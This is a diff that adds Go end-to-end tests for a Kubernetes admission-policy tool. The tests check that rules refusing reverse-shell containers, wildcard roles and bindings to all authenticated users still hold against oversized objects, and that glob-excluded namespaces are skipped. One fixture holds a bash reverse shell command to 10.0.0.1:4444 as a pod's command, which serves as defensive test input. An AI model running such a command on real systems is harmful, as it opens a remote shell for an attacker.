@@ -1,6 +1,7 @@
 package e2e
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -50,6 +51,77 @@ func TestDeletionFreesNothing(t *testing.T) {
 	} {
 		if message := patch(c[0], "old", c[1]); message != "" && !strings.Contains(message, "Warning") {
 			t.Errorf("%s old: %s is refused: %s", c[0], c[1], message)
+		}
+	}
+}
+
+// TestTextSpendsNoBudget sends what has the API server spend on a rule what it has to spend, beside what the rule refuses: it is refused all the same.
+func TestTextSpendsNoBudget(t *testing.T) {
+	s := startSandbox(t)
+	plan := writeFile(t, "plan.yaml", "apiVersion: coaming.dev/v1alpha1\nkind: Enforcement\nmetadata: {name: default}\nspec:\n  mode: off\n  rules: [{rules: [container-reverse-shell, image-publisher-not-allowed, role-wildcard, binding-everyone], mode: enforce}]\n")
+	out := coaming(t, "policy", "export", "--plan", plan)
+	wantCode(t, out, verdict.ExitClean)
+	s.apply(t, out.stdout)
+	const shell = `{name: b, image: b, command: [bash, -c, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}`
+	pod := func(more string) string {
+		return `{apiVersion: v1, kind: Pod, metadata: {name: x}, spec: {containers: [` + more + shell + `]}}`
+	}
+	refused := func(object, rule string) bool {
+		message, err := s.try(t, object, "create", "--dry-run=server", "--validate=false", "-f", "-")
+		return err != nil && strings.Contains(message, rule)
+	}
+	eventually(t, "the policy holds", func() bool { return refused(pod(""), "container-reverse-shell") })
+	words := func(n int, word string) string { return `"` + strings.Repeat(word+`","`, n-1) + word + `"` }
+	rules := strings.Repeat(`{apiGroups: [a], resources: [`+words(400, "a")+`], verbs: [`+words(400, "a")+`]},`, 300)
+	for name, c := range map[string][2]string{
+		"long words":      {pod(`{name: a, image: a, args: [` + words(20, "nc"+strings.Repeat("x", 60000)) + `]},`), "container-reverse-shell"},
+		"one long word":   {pod(`{name: a, image: a, args: ["` + strings.Repeat("nc ", 400000) + `"]},`), "container-reverse-shell"},
+		"many words":      {pod(`{name: a, image: a, args: [` + words(250000, "a") + `]},`), "container-reverse-shell"},
+		"many containers": {pod(func() string {
+			var b strings.Builder
+			for i := range 4000 {
+				fmt.Fprintf(&b, "{name: c%d, image: a},", i)
+			}
+			return b.String()
+		}()), "container-reverse-shell"},
+		"many rules": {`{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: x}, rules: [` + rules + `{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]}`, "role-wildcard"},
+		"many subjects": {`{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: {name: x}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: r}, subjects: [` +
+			strings.Repeat(`{kind: Group, apiGroup: rbac.authorization.k8s.io, name: a},`, 20000) + `{kind: Group, apiGroup: rbac.authorization.k8s.io, name: "system:authenticated"}]}`, "binding-everyone"},
+	} {
+		if !refused(c[0], c[1]) {
+			message, err := s.try(t, c[0], "create", "--dry-run=server", "--validate=false", "-f", "-")
+			t.Errorf("%s: %v, want it refused by %s:\n%.300s", name, err, c[1], message)
+		}
+	}
+}
+
+// TestGlobsAreExcluded has the API server take the webhook of a plan that excludes namespaces by globs, and ask it, where nobody answers,
+// about pods of the others alone.
+func TestGlobsAreExcluded(t *testing.T) {
+	s := startSandbox(t)
+	plan := writeFile(t, "plan.yaml", "apiVersion: coaming.dev/v1alpha1\nkind: Enforcement\nmetadata: {name: default}\nspec: {mode: enforce, onError: fail, excludeNamespaces: [lab, \"ops-*\"]}\n")
+	out := coaming(t, "install", "--image", "registry.example.com/coaming@sha256:"+strings.Repeat("a", 64), "--plan", plan, "--kubernetes-version", "1.36", "--output", "yaml")
+	wantCode(t, out, verdict.ExitClean)
+	for _, object := range strings.Split(out.stdout, "\n---\n") {
+		if strings.Contains(object, "kind: ValidatingWebhookConfiguration") {
+			s.apply(t, object)
+		}
+	}
+	for _, namespace := range []string{"shop", "lab", "ops-a", "my-ops-a"} {
+		s.apply(t, "{apiVersion: v1, kind: Namespace, metadata: {name: "+namespace+"}}")
+		s.serviceAccount(t, namespace)
+	}
+	try := func(namespace string) string {
+		message, _ := s.try(t, "{apiVersion: v1, kind: Pod, metadata: {name: a, namespace: "+namespace+"}, spec: {containers: [{name: a, image: a}]}}", "create", "--dry-run=server", "-f", "-")
+		return message
+	}
+	eventually(t, "the webhook is asked", func() bool { return strings.Contains(try("shop"), "fail.validate.coaming.dev") })
+	if message := try("my-ops-a"); !strings.Contains(message, "fail.validate.coaming.dev") {
+		t.Errorf("a namespace that is not excluded: %s", message)
+	}
+	for _, namespace := range []string{"lab", "ops-a"} {
+		if message := try(namespace); message != "" {
+			t.Errorf("%s is excluded: %s", namespace, message)
 		}
 	}
 }
